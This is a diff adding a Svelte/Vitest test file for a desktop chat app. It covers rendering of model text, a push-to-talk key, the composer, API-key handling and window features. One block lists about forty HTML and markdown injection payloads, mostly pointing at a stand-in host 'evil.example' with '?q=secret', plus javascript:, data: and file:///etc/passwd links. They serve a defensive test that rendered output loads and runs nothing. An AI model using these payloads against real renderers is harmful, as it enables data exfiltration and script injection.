@@ -1,0 +1,263 @@
+import { flushSync, mount, tick, unmount } from "svelte";
+import { afterEach, describe, expect, it, vi } from "vitest";
+import { AppController } from "../controllers/app.svelte";
+import { createClient } from "../ipc/client";
+import { FakeEngine, samples, type FakeOptions } from "../ipc/fake";
+import type { VoiceState } from "../ipc/generated";
+import Window from "./Window.svelte";
+
+let engine: FakeEngine;
+let app: AppController;
+let close: () => void = () => {};
+
+async function open(options: FakeOptions = {}) {
+  engine = new FakeEngine({ pace: 1, ...options });
+  app = new AppController(createClient(engine));
+  const window = mount(Window, { target: document.body, props: { app } });
+  close = () => {
+    app.stop();
+    void unmount(window);
+  };
+  app.start();
+  await expect.poll(() => document.querySelector("[data-testid=window], [data-testid=trouble]")).not.toBeNull();
+  await drawn();
+}
+async function drawn() {
+  await new Promise((resolve) => setTimeout(resolve, 0));
+  flushSync();
+  await tick();
+}
+const one = <E extends HTMLElement>(testid: string): E => {
+  const found = document.querySelector<E>(`[data-testid="${testid}"]`);
+  if (found === null) throw new Error(`nothing has the test id ${testid}`);
+  return found;
+};
+const key = (type: "keydown" | "keyup", part: KeyboardEventInit) => (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent(type, { bubbles: true, cancelable: true, ...part }));
+const called = (name: string) => engine.calls.filter((call) => call.name === name).map((call) => call.payload);
+const line = samples.summaries(Date.now()).slice(0, 1);
+const thread = (text: string): FakeOptions => ({
+  snapshot: { conversations: line, conversation_count: 1 },
+  messages: { panels: [samples.message({ id: "a", author: "they", blocks: [{ type: "text", text }] })] },
+});
+
+afterEach(() => {
+  close();
+  document.body.replaceChildren();
+  vi.useRealTimers();
+});
+
+describe("text of a model", () => {
+  const address = "https://evil.example/?q=secret";
+  const payloads = [
+    `![x](${address})`, `![x][r]\n\n[r]: ${address}`, `<img src="${address}">`, `<svg><image href="${address}"/></svg>`, `<style>@import "${address}"</style>`,
+    `<link rel="prefetch" href="${address}">`, `<link rel="dns-prefetch" href="//evil.example">`, `<link rel="preconnect" href="${address}">`, `<meta http-equiv="refresh" content="0;url=${address}">`,
+    `<form action="${address}"><input></form>`, `<iframe src="${address}"></iframe>`, `<video poster="${address}"></video>`, `<audio src="${address}"></audio>`, `<object data="${address}"></object>`,
+    `<embed src="${address}">`, `<base href="${address}">`, `<a href="${address}" ping="${address}">x</a>`, `<div style="background:url(${address})">x</div>`, `<script src="${address}"></script>`,
+    `[x](javascript:alert(1))`, `[x](data:text/html,<script>1</script>)`, `[x](file:///etc/passwd)`, `<${address}>`, address, `[![x](${address})](${address})`, `| ![x](${address}) |\n|---|\n| y |`,
+    `- ![x](${address})\n- <img src=${address}>`, `> <img src=${address}>`, `# ![x](${address})`, `**![x](${address})**`, `<details open ontoggle=alert(1)>x</details>`, `<math><mtext><img src=${address}></mtext></math>`,
+    "```html\n<img src=x onerror=alert(1)>\n```", `&lt;img src=x onerror=alert(1)&gt;`, `<!-- <img src="${address}"> -->`, `<picture><source srcset="${address}"></picture>`, `<table background="${address}"></table>`,
+    `<input type=image src="${address}">`, `<track src="${address}">`, `<noscript><img src="${address}"></noscript>`,
+  ];
+
+  it.each(payloads)("%s loads nothing and runs nothing, at any stage of its arrival", async (payload) => {
+    await open(thread(""));
+    const article = one("message");
+    const allowed = /^(ARTICLE|DIV|SPAN|P|BDI|BUTTON|svg|path|STRONG|EM|DEL|CODE|PRE|BR|UL|OL|LI|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|H[3-6]|HR)$/;
+    for (const end of [...new Set([1, 5, 9, 14, Math.floor(payload.length / 2), payload.length - 1, payload.length])]) {
+      engine.emit({ type: "message", message: samples.message({ id: "a", author: "they", blocks: [{ type: "text", text: payload.slice(0, end) }] }) });
+      flushSync();
+      for (const element of article.querySelectorAll("*")) {
+        expect(element.tagName).toMatch(allowed);
+        for (const { name, value } of element.attributes) {
+          expect(name).not.toMatch(/^(on|src|href|srcset|poster|action|data$|background|ping|formaction)/);
+          if (name === "style") expect(value).not.toContain("url(");
+        }
+      }
+    }
+  });
+
+  it("is followed nowhere before the host was shown, and then by the engine", async () => {
+    await open(thread("[mybank.com](https://evil.example/login)"));
+    one("link").click();
+    flushSync();
+    expect(called("open_link")).toEqual([]);
+    expect(one("link-dialog").textContent).toMatch(/mybank\.com.*evil\.example/s);
+    one("link-open").click();
+    expect(called("open_link")).toEqual([{ url: "https://evil.example/login" }]);
+  });
+});
+
+describe("the talk key", () => {
+  const states: VoiceState[] = ["idle", "connecting", "listening", "hearing", "thinking", "speaking", "interrupted", "reconnecting", "muted", "failed"];
+
+  it.each(states)("draws the state %s by shape and word", async (state) => {
+    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, state } } });
+    const button = one("talk-key");
+    expect(button.dataset["state"]).toBe(state);
+    expect(button.querySelectorAll("svg").length).toBe(3);
+    expect(button.textContent?.trim()).not.toBe("");
+    expect(button.querySelector(".string")?.getAttribute("aria-hidden")).toBe("true");
+  });
+
+  it("goes down and up with Space, once, however often the key repeats", async () => {
+    await open(thread("x"));
+    key("keydown", { key: " ", code: "Space" });
+    key("keydown", { key: " ", code: "Space", repeat: true });
+    key("keyup", { key: " ", code: "Space" });
+    expect(called("talk_key")).toEqual([{ down: true }, { down: false }]);
+  });
+
+  it("leaves Space to the text field, and takes it back after Esc", async () => {
+    await open(thread("x"));
+    one("composer").focus();
+    key("keydown", { key: " ", code: "Space" });
+    expect(called("talk_key")).toEqual([]);
+    key("keydown", { key: "Escape", code: "Escape" });
+    key("keydown", { key: " ", code: "Space" });
+    expect(called("talk_key")).toEqual([{ down: true }]);
+  });
+
+  it("is let go when the window loses the keyboard", async () => {
+    await open(thread("x"));
+    key("keydown", { key: " ", code: "Space" });
+    window.dispatchEvent(new Event("blur"));
+    expect(called("talk_key")).toEqual([{ down: true }, { down: false }]);
+  });
+
+  it("offers what was cancelled back, and sends it", async () => {
+    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, kept: { ms: 3200, reason: "cancelled" } } } });
+    expect(one("kept").textContent).toMatch(/Cancelled.*0:03.*Undo/s);
+    one("kept-undo").click();
+    expect(called("talk_send_kept")).toHaveLength(1);
+  });
+
+  it.each([
+    ["m", {}, "talk_mute"],
+    ["H", { ctrlKey: true, shiftKey: true, code: "KeyH" }, "talk_hang_up"],
+  ])("%s %o is %s", async (name, part, command) => {
+    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, voice: { ...samples.idleVoice, state: "speaking", in_call: true } } });
+    key("keydown", { key: name, ...part });
+    expect(called(command)).toHaveLength(1);
+  });
+});
+
+describe("the composer", () => {
+  const type = (text: string) => {
+    const field = one<HTMLTextAreaElement>("composer");
+    field.focus();
+    field.value = text;
+    field.dispatchEvent(new Event("input", { bubbles: true }));
+    flushSync();
+    return field;
+  };
+
+  it("sends with Enter, breaks with Shift Enter, and leaves Enter to an input method", async () => {
+    await open({ ...thread("x"), snapshot: { ...thread("x").snapshot, providers: [samples.ollama], settings: { ...samples.defaultSettings, provider: "ollama" } } });
+    const field = type("Hello");
+    key("keydown", { key: "Enter", shiftKey: true });
+    key("keydown", { key: "Enter", isComposing: true });
+    expect(called("send_message")).toEqual([]);
+    key("keydown", { key: "Enter" });
+    await expect.poll(() => called("send_message")).toEqual([{ conversation_id: "panels", text: "Hello" }]);
+    await expect.poll(() => field.value).toBe("");
+    await expect.poll(() => document.querySelector("[data-testid=stop]")).not.toBeNull();
+    one("stop").click();
+    await expect.poll(() => one("message") && document.querySelector("[data-status=stopped]")).not.toBeNull();
+  });
+
+  it("takes ten megabytes from the clipboard without laying them out", async () => {
+    await open(thread("x"));
+    const field = type("");
+    const paste = new Event("paste", { bubbles: true, cancelable: true });
+    Object.assign(paste, { clipboardData: { getData: () => "x".repeat(10_000_000) } });
+    field.dispatchEvent(paste);
+    await drawn();
+    expect(paste.defaultPrevented).toBe(true);
+    expect(field.value).toBe("");
+    expect(one("pasted").textContent).toContain("10 MB");
+  });
+});
+
+describe("a key", () => {
+  it("is not on the page once the engine has it", async () => {
+    await open();
+    const field = one<HTMLInputElement>("key");
+    const paste = new Event("paste", { bubbles: true, cancelable: true });
+    Object.assign(paste, { clipboardData: { getData: () => " sk-proj-canary\n" } });
+    field.dispatchEvent(paste);
+    await expect.poll(() => document.querySelector("[data-testid=key-works]")?.textContent).toMatch(/3 models.*api\.openai\.com/s);
+    expect(called("set_key")).toEqual([{ provider: "openai", key: "sk-proj-canary", keep: "keyring", allow_plain_http: false }]);
+    expect(field.value).toBe("");
+    expect(document.documentElement.outerHTML).not.toContain("canary");
+  });
+
+  it("has left the page before the provider is even asked", async () => {
+    await open();
+    const asked = vi.spyOn(engine, "call");
+    const field = one<HTMLInputElement>("key");
+    field.value = "sk-proj-canary";
+    field.dispatchEvent(new Event("input", { bubbles: true }));
+    flushSync();
+    asked.mockImplementation((name) => (name === "test_provider" ? new Promise(() => {}) : Promise.resolve({})));
+    one("key-save").click();
+    await expect.poll(() => field.value).toBe("");
+    expect(asked.mock.calls.map(([name]) => name)).toEqual(["set_key", "test_provider"]);
+  });
+
+  it("can be used for this session only where there is no keyring", async () => {
+    await open({ snapshot: { keyring: { state: "absent", store: "" } } });
+    const field = one<HTMLInputElement>("key");
+    field.value = "sk-proj-canary";
+    field.dispatchEvent(new Event("input", { bubbles: true }));
+    flushSync();
+    one("key-save").click();
+    await expect.poll(() => called("set_key")).toMatchObject([{ keep: "session" }]);
+  });
+});
+
+describe("the window", () => {
+  it("draws nothing but the trouble when the data cannot be opened", async () => {
+    await open({ snapshot: { trouble: { code: "database_newer", provider: null, host: null, model: null, status: null, seconds: null, details: "version 9" } } });
+    expect(one("trouble").textContent).toMatch(/newer Parlance.*Nothing was changed/s);
+    expect(document.querySelector("[data-testid=composer]")).toBeNull();
+  });
+
+  it("changes its language and its look at once", async () => {
+    await open(thread("x"));
+    engine.emit({ type: "settings", settings: { ...samples.defaultSettings, language: "zh-CN", theme: "dark", text_scale: 1.3 } });
+    flushSync();
+    const { lang, dataset, style } = document.documentElement;
+    expect([lang, dataset["theme"], style.getPropertyValue("--text-scale")]).toEqual(["zh-CN", "dark", "1.3"]);
+    expect(one("talk-key").textContent).toContain("按住说话");
+    engine.emit({ type: "settings", settings: { ...samples.defaultSettings, language: "en" } });
+    flushSync();
+  });
+
+  it("renames in place with F2 and keeps the old title on Esc", async () => {
+    await open(thread("x"));
+    one("conversation").focus();
+    key("keydown", { key: "F2" });
+    flushSync();
+    key("keydown", { key: "Escape" });
+    flushSync();
+    one("conversation").focus();
+    key("keydown", { key: "F2" });
+    flushSync();
+    one<HTMLInputElement>("rename").value = "Sun";
+    key("keydown", { key: "Enter" });
+    expect(called("rename_conversation")).toEqual([{ id: "panels", title: "Sun" }]);
+  });
+
+  it("finds by Ctrl K and opens at the message", async () => {
+    await open(thread("The lime tree takes the sun"));
+    key("keydown", { key: "k", code: "KeyK", ctrlKey: true });
+    flushSync();
+    const field = one<HTMLInputElement>("search");
+    field.value = "lime";
+    field.dispatchEvent(new Event("input", { bubbles: true }));
+    await expect.poll(() => document.querySelector("[data-testid=hit] mark")?.textContent).toBe("lime");
+    key("keydown", { key: "Enter" });
+    flushSync();
+    expect(app.navigation.page).toEqual({ kind: "conversation", id: "panels", message: "a" });
+  });
+});
